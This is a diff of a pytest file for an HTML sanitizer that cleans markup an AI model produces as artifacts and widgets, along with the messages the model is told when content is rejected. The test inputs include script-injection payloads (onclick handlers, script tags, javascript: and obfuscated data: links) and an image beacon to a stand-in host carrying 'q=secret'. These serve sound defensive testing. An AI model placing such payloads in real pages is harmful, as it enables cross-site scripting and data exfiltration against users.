@@ -25,7 +25,11 @@ from tests.agent.scripted import ScriptedProvider, call, text
         ('<p onclick="x()" style="color:red">x</p>', '<p style="color:red">x</p>'),
         ('<p style="background-image:url(https://a);color:red">x</p>', '<p style="color:red">x</p>'),
         ('<a href="javascript:x()">x</a>', '<a rel="noopener noreferrer">x</a>'),
-        ('<td colspan="2">x</td>', "x"),
+        ('<a href="data:text/html,x">x</a>', '<a rel="noopener noreferrer">x</a>'),
+        ('<a href=" DA\tTA:text/html,x">x</a>', '<a rel="noopener noreferrer">x</a>'),
+        ('<a href="https://a/x">x</a>', '<a href="https://a/x" rel="noopener noreferrer">x</a>'),
+        ('<p class="fixed inset-0 z-50" title="x">x</p>', '<p title="x">x</p>'),
+        ('<noscript><img src="https://a"></noscript>', '&lt;img src="https://a"&gt;'),
         (
             '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>',
             '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>',
@@ -101,27 +105,11 @@ def test_nothing_loads_by_itself(html):
     assert "evil.example" not in clean_html(html, sources=ALLOWED)
 
 
-def test_what_browsers_without_scripts_would_load_is_text():
-    assert clean_html(f'<noscript><img src="{HOSTILE}"></noscript>') == (
-        '&lt;img src="https://evil.example/?q=secret"&gt;'
-    )
-
-
 @pytest.mark.parametrize(
     "address", [PIXEL, "https://charts.example.com/x?y=1", "https://pictures.example:8443/a/../b"]
 )
 def test_an_image_in_itself_or_from_where_the_builder_allows_is_shown(address):
     assert clean_html(f'<img src="{address}">', sources=ALLOWED) == f'<img src="{address}">'
-
-
-def test_a_link_that_people_choose_to_follow_stays():
-    link = '<a href="https://example.org/x" rel="noopener noreferrer">x</a>'
-    assert clean_html(link) == link
-
-
-@pytest.mark.parametrize("address", ["data:text/html,x", " DA\tTA:text/html,x"])
-def test_a_link_that_holds_a_page_is_taken_out(address):
-    assert clean_html(f'<a href="{address}">x</a>') == '<a rel="noopener noreferrer">x</a>'
 
 
 CARD = (
@@ -186,122 +174,67 @@ def test_deep_nesting_is_removed(opening):
     assert filter_style(f"color: red; width: {opening * 1_500}") == "color: red"
 
 
-def shown(*script, **spec):
-    with ScriptedProvider(script) as provider:
-        outputs = outputs_of(make_engine_input(provider, spec=make_spec(tools=("html",), **spec)))
-    return [one for one in outputs if isinstance(one, MessageArtifact)], provider
+def answer(html, **spec):
+    """The artifact of a call of the tool, or what the model is told instead."""
+    made = call("html", name="Card", description="Figures.", html=html)
+    provider = ScriptedProvider([made, text("See above.")])
+    outputs = outputs_of(make_engine_input(provider, spec=make_spec(tools=("html",), **spec)))
+    for one in outputs:
+        if isinstance(one, MessageArtifact):
+            assert (one.type, one.artifact_name) == (ArtifactType.HTML, "Card")
+            assert provider.calls[1].messages[-1].text == "The user now sees 'Card'."
+            return one.content
+    return provider.calls[1].messages[-1].text
 
 
-def test_html_is_shown_as_an_artifact_with_a_name_of_its_own():
-    [artifact], provider = shown(
-        call("html", name="Card", description="Figures.", html="<b>1</b><script>x</script>"),
-        text("See above."),
-    )
-    assert (artifact.type, artifact.content) == (ArtifactType.HTML, "<b>1</b>")
-    assert artifact.artifact_name == "Card"
-    assert provider.calls[1].messages[-1].text == "The user now sees 'Card'."
-
-
-def test_html_of_which_nothing_is_left_is_told_to_the_model():
-    artifacts, provider = shown(
-        call("html", name="Card", description="", html="<script>x</script>"), text("Sorry.")
-    )
-    assert artifacts == []
-    assert "scripts, styles, frames, forms and images" in provider.calls[1].messages[-1].text
-
-
-def test_a_picture_alone_is_something_to_show():
-    [artifact], _ = shown(
-        call("html", name="P", description="", html=f'<img src="{PIXEL}" alt="">'),
-        text("See above."),
-    )
-    assert artifact.content == f'<img src="{PIXEL}" alt="">'
-
-
-def test_a_picture_from_elsewhere_alone_is_nothing_to_show():
-    artifacts, provider = shown(
-        call("html", name="P", description="", html='<img src="https://a.example/b.png" alt="">'),
-        text("Sorry."),
-    )
-    assert artifacts == []
-    assert "images from elsewhere" in provider.calls[1].messages[-1].text
-
-
-def test_a_picture_from_where_the_builder_allows_is_shown():
-    html = '<img src="https://a.example/b.png">'
-    [artifact], _ = shown(
-        call("html", name="P", description="", html=html),
-        text("See above."),
-        html_sources=("https://a.example",),
-    )
-    assert artifact.content == html
-
-
-@pytest.mark.parametrize(
-    "html",
-    [
-        "<div>" * 5001,
-        "<p>" + "".join(f"<b lang='{number}'>" for number in range(500)) + "<p>x" * 500,
-        "<p>" + "<b lang='1'id='2'>" * 500 + "<p>x" * 500,
-    ],
-)
-def test_html_that_is_costly_to_clean_is_told_to_the_model(html):
-    artifacts, provider = shown(
-        call("html", name="Card", description="", html=html), text("Sorry.")
-    )
-    assert artifacts == []
-    assert "Use fewer elements" in provider.calls[1].messages[-1].text
-
-
-def test_a_long_table_with_styled_cells_is_shown():
-    row = '<tr><td><b style="color:red">1</b></td><td>2</td></tr>'
-    table = f"<table><tbody>{row * 2000}</tbody></table>"
-    artifacts, _ = shown(call("html", name="T", description="", html=table), text("See above."))
-    assert [one.content for one in artifacts] == [boxed(table)]
+def widget(html, **spec):
+    """What a new widget of HTML holds, or what the model is told instead."""
+    [tool] = AddGenerativeWidget().define_tools(ToolScope(spec=make_spec(**spec), query=FULL_QUERY))
+    arguments = json.dumps({"widget_type": "html", "name": "H", "data": html})
+    try:
+        return tool.arguments(ToolCall(id="c", name=tool.function, arguments=arguments))["data"]
+    except ToolMistake as mistake:
+        return mistake.public
 
 
 def boxed(html):
     return f'<div style="height:100%;overflow:auto">{html}</div>'
 
 
+@pytest.mark.parametrize("show", [answer, widget])
 @pytest.mark.parametrize(
-    "styled",
+    ("html", "shown"),
     [
-        '<p style="margin-top: -400px">x</p>',
-        '<p style="box-shadow: 0 0 0 2000px red">x</p>',
-        '<p style="color: red">x</p></div></section>',
-        "</div></div><b style='line-height: 0'>x",
+        ("<b>1</b><script>x</script>", "<b>1</b>"),
+        (f'<img src="{PIXEL}" alt="">', f'<img src="{PIXEL}" alt="">'),
+        ('<img src="https://a.example/b.png">', '<img src="https://a.example/b.png">'),
+        ('<p style="margin-top: -400px">x</p>', boxed('<p style="margin-top: -400px">x</p>')),
+        ('<p style="color: red">x</p></div></section>', boxed('<p style="color: red">x</p>')),
+        ("</div></div><b style='line-height: 0'>x", boxed('<b style="line-height: 0">x</b>')),
     ],
 )
-def test_what_has_styles_is_shown_in_a_box_of_its_own(styled):
-    [artifact], _ = shown(call("html", name="S", description="", html=styled), text("See above."))
-    assert artifact.content == boxed(clean_html(styled))
-    assert "</div>" not in clean_html(styled)
+def test_html_is_shown_clean_and_styled_html_in_a_box(show, html, shown):
+    assert show(html, html_sources=("https://a.example",)) == shown
 
 
-def test_classes_of_the_page_around_it_mean_nothing_here():
-    assert clean_html('<p class="fixed inset-0 z-50" title="x">x</p>') == '<p title="x">x</p>'
+@pytest.mark.parametrize("show", [answer, widget])
+@pytest.mark.parametrize(
+    ("html", "sentence"),
+    [
+        ("<script>x</script>", "scripts, styles, frames, forms and images from elsewhere"),
+        ('<img src="https://a.example/b.png" alt="">', "images from elsewhere"),
+        ("<div>" * 5001, "Use fewer elements"),
+        ("<p>" + "".join(f"<b lang='{n}'>" for n in range(500)) + "<p>x" * 500, "Use fewer"),
+        ("<p>" + "<b lang='1'id='2'>" * 500 + "<p>x" * 500, "Use fewer elements"),
+        ("x" * (MAX_CHARACTERS + 1), "200000 characters"),
+    ],
+    ids=["nothing left", "remote image", "nested", "different tags", "odd tags", "long"],
+)
+def test_html_that_cannot_be_shown_is_explained_to_the_model(show, html, sentence):
+    assert sentence in show(html)
 
 
-def widget(html, **spec):
-    """What a new widget of HTML holds, or what the model is told instead."""
-    situation = ToolScope(spec=make_spec(**spec), query=FULL_QUERY)
-    [offer] = AddGenerativeWidget().define_tools(situation)
-    arguments = {"widget_type": "html", "name": "H", "data": html}
-    try:
-        return offer.arguments(
-            ToolCall(id="c", name="add_generative_widget", arguments=json.dumps(arguments))
-        )["data"]
-    except ToolMistake as mistake:
-        return mistake.public
-
-
-def test_the_html_of_a_new_widget_is_cleaned_as_that_of_an_answer():
-    hostile = f'<p onclick="x()">5</p><script>x</script><img src="{HOSTILE}">'
-    assert widget(hostile) == "<p>5</p><img>"
-    image = '<img src="https://a.example/b.png">'
-    assert widget(image, html_sources=("https://a.example",)) == image
-    assert widget('<p style="color: red">5</p>') == boxed('<p style="color: red">5</p>')
-    assert "images from elsewhere" in widget(image)
-    assert "Use fewer elements" in widget("<div>" * 5001)
-    assert "200000 characters at most" in widget("x" * (MAX_CHARACTERS + 1))
+def test_a_long_table_with_styled_cells_is_shown():
+    row = '<tr><td><b style="color:red">1</b></td><td>2</td></tr>'
+    table = f"<table><tbody>{row * 2000}</tbody></table>"
+    assert answer(table) == boxed(table)
